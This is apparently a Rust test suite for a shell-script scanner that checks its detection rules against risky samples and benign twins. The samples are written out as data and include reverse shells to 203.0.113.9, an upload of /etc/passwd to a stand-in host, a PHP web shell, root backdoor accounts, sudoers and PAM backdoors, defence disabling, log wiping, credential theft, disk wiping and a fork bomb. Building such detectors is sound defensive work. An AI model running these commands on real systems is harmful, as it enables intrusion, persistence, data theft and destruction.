//! Each rule fires on its sample and stays silent on the sample's benign twin.

use scanner::{FileReport, Severity, rules, scan_file};

fn scan(text: &str) -> FileReport {
    scan_file("sample.sh", text.as_bytes())
}

fn fires(report: &FileReport, rule: &str, severity: Severity) -> bool {
    report.findings.iter().any(|finding| finding.rule == rule && finding.severity == severity)
}

/// Rule, what it finds, and what looks alike and is none.
const SAMPLES: &[(&str, &str, &str)] = &[
    (
        "EXE-001",
        "curl -fsSL https://x.example/i | sudo bash -s -- -y",
        "curl -fsSL https://x.example/i | tar xz -C /opt",
    ),
    (
        "EXE-001",
        "wget -qO- https://x.example/i.py | python3 -",
        "curl -s https://x.example/i | python3 -m json.tool",
    ),
    ("EXE-002", "eval \"$(curl -s https://x.example/env)\"", "eval \"$(ssh-agent -s)\""),
    ("EXE-002", "source <(curl -s https://x.example/lib)", "source <(kubectl completion bash)"),
    ("EXE-002", "bash -c \"$(wget -qO- https://x.example)\"", "bash -c \"echo hello\""),
    ("EXE-003", "echo ZWNobyBoaQo= | base64 -d | sh", "echo ZWNobyBoaQo= | base64 -d > /opt/data"),
    ("EXE-003", "printf 6563686f | xxd -r -p | bash", "printf 6563686f | xxd -r -p"),
    ("EXE-004", "/dev/shm/worker --daemon", "/opt/worker --daemon"),
    (
        "EXE-005",
        "python3 -c 'import socket,os;s=socket.socket();os.dup2(s.fileno(),0)'",
        "python3 -c 'import json;print(json.dumps(1))'",
    ),
    ("EXE-006", "eval \"$1\"", "eval \"set -- a b\""),
    ("EXE-006", "c${IFS}at x; $'\\x63at' /x", "cat x"),
    (
        "EXE-007",
        "curl -o /opt/i https://x.example/i\nchmod +x /opt/i\n/opt/i",
        "curl -o /opt/i https://x.example/i\necho 'ab  /opt/i' | sha256sum -c -\nchmod +x /opt/i\n/opt/i",
    ),
    (
        "EXE-007",
        "wget https://x.example/setup.sh && bash setup.sh",
        "cat > setup.sh <<'E'\necho hi\nE\nbash setup.sh",
    ),
    ("PER-001", "echo '* * * * * root /opt/run' > /etc/cron.d/run", "echo root > /etc/cron.allow"),
    (
        "PER-002",
        "cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/opt/x\nE",
        "systemctl enable x.service",
    ),
    ("PER-003", "echo 'umask 027' >> /etc/profile.d/x.sh", "cat /etc/profile.d/x.sh"),
    ("PER-004", "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "chmod 600 ~/.ssh/authorized_keys"),
    ("PER-005", "useradd -o -u 0 -g 0 helper", "useradd -u 1200 helper"),
    ("PER-005", "echo 'helper:x:0:0::/root:/bin/sh' >> /etc/passwd", "grep helper /etc/passwd"),
    ("PER-006", "echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd", "cat /etc/pam.d/sshd"),
    (
        "PER-007",
        "echo 'SUBSYSTEM==\"net\", RUN+=\"/opt/x\"' > /etc/udev/rules.d/9.rules",
        "echo 'KERNEL==\"sda\", MODE=\"0660\"' > /etc/udev/rules.d/9.rules",
    ),
    (
        "PER-008",
        "echo 'DPkg::Post-Invoke {\"/opt/x\";};' > /etc/apt/apt.conf.d/9x",
        "echo 'APT::Install-Recommends \"0\";' > /etc/apt/apt.conf.d/9x",
    ),
    (
        "PER-009",
        "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/i.php",
        "echo '<?php echo date(\"c\"); ?>' > /var/www/html/i.php",
    ),
    ("PER-010", "cp hook /etc/initramfs-tools/hooks/x", "ls /etc/initramfs-tools/hooks"),
    ("PRV-001", "cp /bin/bash /opt/b && chmod 4755 /opt/b", "chmod 0755 /opt/b"),
    ("PRV-001", "install -m 4755 b /usr/local/bin/b", "install -m 0755 b /usr/local/bin/b"),
    ("PRV-002", "setcap cap_setuid+ep /opt/b", "setcap -r /opt/b"),
    (
        "PRV-003",
        "echo 'app ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/app",
        "echo 'Defaults use_pty' > /etc/sudoers.d/app",
    ),
    (
        "PRV-004",
        "echo 'polkit.addRule(function(){return polkit.Result.YES;});' > /etc/polkit-1/rules.d/1.rules",
        "echo '// none' > /etc/polkit-1/rules.d/1.rules",
    ),
    ("PRV-005", "docker run --privileged -d x", "docker run -d --read-only x"),
    ("PRV-006", "chmod 666 /etc/shadow", "chmod 600 /etc/shadow"),
    ("PRV-006", "chown app /etc/passwd", "chown root:root /etc/passwd"),
    ("PRV-007", "usermod -aG sudo app", "usermod -aG audio app"),
    (
        "PRV-008",
        "echo 'app ALL=(root) NOPASSWD: /usr/bin/vim' >> /etc/sudoers",
        "echo 'app ALL=(root) NOPASSWD: /opt/app/restart' >> /etc/sudoers",
    ),
    (
        "DEF-001",
        "iptables -F",
        "iptables -F\niptables -P INPUT DROP\niptables -A INPUT -p tcp --dport 22 -j ACCEPT",
    ),
    ("DEF-001", "ufw disable", "ufw allow 22/tcp"),
    ("DEF-001", "systemctl disable --now firewalld.service", "systemctl disable --now bluetooth"),
    ("DEF-002", "setenforce 0", "setenforce 1"),
    (
        "DEF-002",
        "sed -i 's/^SELINUX=.*/SELINUX=disabled/' /etc/selinux/config",
        "sed -i 's/^SELINUX=.*/SELINUX=enforcing/' /etc/selinux/config",
    ),
    ("DEF-003", "service auditd stop", "service auditd restart"),
    ("DEF-003", "auditctl -e 0", "auditctl -l"),
    ("DEF-004", "history -c", "history"),
    ("DEF-004", "cat /dev/null > /var/log/auth.log", "cat /var/log/auth.log > /opt/copy"),
    ("DEF-004", "ln -sf /dev/null ~/.bash_history", "ln -sf /opt/vimrc ~/.vimrc"),
    (
        "DEF-005",
        "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin yes/' /etc/ssh/sshd_config",
        "sed -i 's/^#*PermitRootLogin.*/PermitRootLogin no/' /etc/ssh/sshd_config",
    ),
    (
        "DEF-006",
        "apt-get install -y --allow-unauthenticated x",
        "apt-get install -y --no-install-recommends x",
    ),
    (
        "DEF-006",
        "apt-get -o APT::Get::AllowUnauthenticated=true install x",
        "apt-get -o Dpkg::Use-Pty=0 install x",
    ),
    (
        "DEF-006",
        "echo 'deb [trusted=yes] http://x.example ./' > /etc/apt/sources.list.d/x.list",
        "echo 'deb [signed-by=/etc/k.gpg] https://x.example ./' > /etc/apt/sources.list.d/x.list",
    ),
    ("DEF-007", "curl -skL https://x.example/a -o /opt/a", "curl -sL https://x.example/a -o /opt/a"),
    ("DEF-007", "wget --no-check-certificate https://x.example/a", "wget https://x.example/a"),
    ("DEF-007", "git -c http.sslVerify=false clone https://x.example/a", "git clone https://x.example/a"),
    ("DEF-008", "sysctl -w kernel.randomize_va_space=0", "sysctl -w vm.swappiness=10"),
    ("DEF-009", "touch -r /bin/ls /usr/bin/x", "touch /opt/stamp"),
    ("DEF-010", "cp x /tmp/.hidden", "cp x /tmp/plain"),
    ("DEF-011", "echo /opt/l.so >> /etc/ld.so.preload", "rm -f /etc/ld.so.preload"),
    ("DEF-011", "LD_PRELOAD=/opt/l.so nginx", "LD_LIBRARY_PATH=/opt/lib nginx"),
    ("DEF-012", "insmod /opt/x.ko", "modprobe br_netfilter"),
    ("DEF-013", "apt-get purge -y clamav-daemon", "apt-get install -y clamav-daemon"),
    ("DEF-014", "alias sudo='/opt/x'", "alias ls='ls --color=auto'"),
    ("DEF-014", "cp x /usr/bin/ps", "cp x /usr/local/bin/x"),
    ("DEF-015", "mount --bind /opt/empty /proc/4242", "mount --bind /opt/a /srv/a"),
    ("DEF-016", "cp ca.crt /usr/local/share/ca-certificates/", "cp ca.crt /opt/app/ca.crt"),
    ("CRD-001", "echo 'app:Tr0ub4dor' | chpasswd", "passwd -l app"),
    (
        "CRD-002",
        "cat > /opt/k <<'E'\n-----BEGIN RSA PRIVATE KEY-----\nMIIEowIBAAKCAQEAx8sK3wT1vN0uQwErTyUiOpAsDfGhJkLzXcVbNm1234567890\nE",
        "grep -q -- '-----BEGIN RSA PRIVATE KEY-----' /opt/k",
    ),
    (
        "CRD-003",
        "TOKEN=ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
        "TOKEN=ghp_xxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxxx",
    ),
    ("CRD-004", "passwd -d app", "passwd -S app"),
    ("CRD-004", "echo 'root:root' | chpasswd", "echo \"app:$HASH\" | chpasswd -e"),
    ("CRD-005", "openssl passwd -1 \"$P\"", "openssl passwd -6 \"$P\""),
    ("CRD-006", "cat /etc/shadow > /opt/s", "stat /etc/shadow"),
    ("CRD-006", "tar czf /opt/k.tgz /root/.ssh/id_rsa", "ssh -i /root/.ssh/id_rsa host true"),
    ("NET-001", "bash -i >& /dev/tcp/203.0.113.9/443 0>&1", "timeout 1 echo > /dev/tcp/127.0.0.1/22"),
    ("NET-001", "nc -e /bin/sh 203.0.113.9 443", "nc -z 127.0.0.1 22"),
    (
        "NET-001",
        "mkfifo /opt/f; cat /opt/f | sh -i 2>&1 | nc 203.0.113.9 443 > /opt/f",
        "mkfifo /opt/f; tail -f /opt/f",
    ),
    ("NET-002", "ssh -N -R 2222:localhost:22 u@x.example", "ssh -N u@x.example true"),
    ("NET-003", "curl -T /etc/passwd https://x.example/", "curl -X POST https://x.example/ping"),
    ("NET-004", "python3 -m http.server --bind 0.0.0.0 80", "python3 -m http.server --bind 127.0.0.1 80"),
    ("NET-005", "curl -O http://x.example/a.txt", "curl -O https://x.example/a.txt"),
    ("NET-006", "curl https://203.0.113.9/a", "curl https://x.example/a"),
    (
        "SUP-001",
        "curl -LO https://x.example/a.tar.gz",
        "curl -LO https://x.example/a.tar.gz\nsha256sum --check a.sum",
    ),
    ("SUP-003", "add-apt-repository -y ppa:x/y", "apt-get update"),
    ("SUP-005", "pip install --trusted-host x.example y", "pip install y==1.0"),
    ("SUP-006", "md5sum -c sums", "sha256sum -c sums"),
    ("IMP-001", "rm -rf --no-preserve-root /", "rm -rf /var/lib/apt/lists/*"),
    ("IMP-001", "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/zero of=/opt/swap bs=1M"),
    ("IMP-002", ":(){ :|:& };:", "f(){ echo a; }; f"),
    ("IMP-002", "/opt/miner -o stratum+tcp://x.example:3333", "/opt/app -o https://x.example"),
    ("IMP-003", "find /home -type f -exec gpg --batch -c {} \\;", "gpg --batch -c /opt/backup.tar"),
    ("IMP-004", "shutdown -h now", "systemctl restart nginx"),
    ("PRM-001", "chmod -R 777 /etc/app", "chmod -R 750 /etc/app"),
    ("PRM-002", "chmod 644 /opt/app/id_rsa", "chmod 644 /opt/app/id_rsa.pub"),
    ("PRM-003", "umask 000", "umask 022"),
    ("LIM-002", "if true; then echo a", "if true; then echo a; fi"),
    ("LIM-004", "cu\0rl x", "curl x"),
];

#[test]
fn each_rule_fires_on_its_sample_and_not_on_the_benign_twin() {
    for (rule, risky, benign) in SAMPLES {
        let severity = rules().iter().find(|info| info.id == *rule).unwrap().severity;
        let report = scan(risky);
        assert!(fires(&report, rule, severity), "{rule} is silent on {risky:?}: {:#?}", report.findings);
        let report = scan(benign);
        assert!(!fires(&report, rule, severity), "{rule} fires on {benign:?}: {:#?}", report.findings);
    }
}

#[test]
fn every_rule_has_a_sample() {
    // The others need files of their own size; see `hostile.rs`.
    let elsewhere = ["LIM-001", "LIM-003"];
    for rule in rules() {
        let sampled = SAMPLES.iter().any(|(id, _, _)| *id == rule.id) || elsewhere.contains(&rule.id);
        assert!(sampled, "{} has no sample", rule.id);
    }
}

/// The same attack under every wrapper that shell has.
#[test]
fn wrappers_hide_nothing() {
    let wrapped = [
        "sudo -u root -- sh -c 'chmod u+s /opt/b'",
        "env A=1 nohup nice -n 5 chmod u+s /opt/b &",
        "bash -lc \"sudo chmod u+s /opt/b\"",
        "eval 'chmod u+s' /opt/b",
        "echo /opt/b | xargs -n1 chmod u+s",
        "find /opt -name b -exec chmod u+s {} \\;",
        "su - root -c 'chmod u+s /opt/b'",
        "timeout -k 1 10 chmod u+s /opt/b",
        "M=u+s; chmod $M /opt/b",
        "C='chmod u+s'; $C /opt/b",
        "f() { chmod \"$1\" /opt/b; }; f u+s",
        "for m in g+r u+s; do chmod $m /opt/b; done",
        "if a; then m=u+s; else m=u+x; fi; chmod $m /opt/b",
        "sh <<E\nchmod u+s /opt/b\nE",
        "bash <<< 'chmod u+s /opt/b'",
        "cat > /opt/s <<'E'\nchmod u+s /opt/b\nE\nsh /opt/s",
        "printf '%s\\n' '#!/bin/sh' 'chmod u+s /opt/b' > /opt/s; chmod +x /opt/s; /opt/s",
        "echo Y2htb2QgdStzIC9vcHQvYg== | base64 -d | sh",
        "bash -c \"$(echo 63686d6f6420752b73202f6f70742f62 | xxd -r -p)\"",
        "$(printf 'chmod u+s /opt/b')",
        "c\\h'm'\"o\"d u+s /opt/b",
        "$'\\x63hmod' u+s /opt/b",
        "trap 'chmod u+s /opt/b' EXIT",
        "at now <<< 'chmod u+s /opt/b'",
        "case $1 in a) (true && chmod u+s /opt/b) ;; esac",
        "function never_called { chmod u+s /opt/b; }",
        "echo '* * * * * root chmod u+s /opt/b' | sudo tee -a /etc/crontab",
        "cat > /etc/systemd/system/x.service <<E\n[Service]\nExecStart=/bin/chmod u+s /opt/b\nE",
        "echo 'tr' | cat; echo 'puzbq h+f /bcg/o' | tr 'a-z' 'n-za-m' | sh",
        "chmod {u+s,g+w} /opt/b",
        "x=$(chmod u+s /opt/b)",
        "if then ) chmod u+s /opt/b",
    ];
    for text in wrapped {
        let report = scan(text);
        assert!(fires(&report, "PRV-001", Severity::Deny), "silent on {text:?}: {:#?}", report.findings);
    }
}

#[test]
fn other_spellings_are_the_same_directives() {
    for (text, rule) in [
        ("chmod =4755 /opt/f", "PRV-001"),
        ("mkdir -m 4777 /opt/d", "PRV-001"),
        ("env -S 'chmod u+s' /opt/f", "PRV-001"),
        ("useradd -ou0 x", "PER-005"),
        ("useradd -mou 0 x", "PER-005"),
    ] {
        assert!(fires(&scan(text), rule, Severity::Deny), "{text}");
    }
    for text in ["mkdir -p -m 0755 /opt/d", "useradd -mu 1200 x", "env -S 'chmod 0755' /opt/f"] {
        assert!(scan(text).severity() < Some(Severity::Deny), "{text}");
    }
}

/// EXE-007 is silenced by a check of the file itself, between its fetch and its run.
#[test]
fn only_a_check_of_what_was_fetched_counts() {
    let unchecked = |check: &str| {
        let text = format!("curl https://x.example/a -o /opt/x\n{check}\nsh /opt/x\n");
        fires(&scan(&text), "EXE-007", Severity::Deny)
    };
    for check in [
        "echo 'ab  /opt/x' | sha256sum -c -",
        "cd /opt; echo \"$SUM *x\" | sha256sum --check --strict",
        "sha256sum -c <<E || exit 1\nab  /opt/x\nE",
        "echo 'SHA256 (/opt/x) = ab' > /opt/sums; sha256sum -c /opt/sums",
        "gpg --verify /opt/x.sig /opt/x",
        "gpgv /opt/x.sig",
        "minisign -Vm /opt/x -P ab",
        "openssl dgst -sha256 -verify k -signature s /opt/x",
        // A list that lies beside the script.
        "sha256sum -c SHA256SUMS",
    ] {
        assert!(!unchecked(check), "{check}");
    }
    for check in [
        "sha256sum -c /dev/null",
        "echo 'ab  /opt/y' | sha256sum -c -",
        "echo 'ab  /opt/y' >/opt/sums; sha256sum -c /opt/sums",
        "curl https://x.example/sums -o /opt/sums; sha256sum -c /opt/sums",
        "echo 'ab  /opt/x' | sha256sum -c - || true",
        "minisign -h || true",
        "if false; then gpgv a b; fi",
        "gpgv /opt/x.sig || :",
        "echo 'ab  /opt/x' | sha256sum -c -; curl https://x.example/b -o /opt/x",
    ] {
        assert!(unchecked(check), "{check}");
    }
    let before = "echo 'ab  /opt/x' | sha256sum -c -\ncurl https://x.example/a -o /opt/x\nsh /opt/x\n";
    assert!(fires(&scan(before), "EXE-007", Severity::Deny));
    let after = "curl https://x.example/a -o /opt/x\nsh /opt/x\necho 'ab  /opt/x' | sha256sum -c -\n";
    assert!(fires(&scan(after), "EXE-007", Severity::Deny));
}

#[test]
fn text_that_is_only_data_is_none_of_our_business() {
    let data = [
        "echo 'chmod u+s /opt/b'",
        "cat <<E\nchmod u+s /opt/b\nE",
        "# chmod u+s /opt/b",
        "grep 'chmod u+s' /opt/b",
        "echo \"usage: curl https://x.example | sh\"",
        "printf 'rm -rf /\\n' > /opt/notes.txt",
    ];
    for text in data {
        let report = scan(text);
        assert!(report.severity() < Some(Severity::Deny), "{text:?}: {:#?}", report.findings);
    }
}

#[test]
fn findings_stand_at_their_lines() {
    let report = scan(
        "#!/bin/sh\nset -e\n\nif true; then\n  é=1; sudo rm -rf /etc\nfi\ncat <<'E' | sh\necho\n  setenforce 0\nE\n",
    );
    let places: Vec<_> =
        report.findings.iter().map(|finding| (finding.rule, finding.line, finding.column)).collect();
    assert_eq!(places, [("IMP-001", 5, 8), ("DEF-002", 9, 3)]);
}
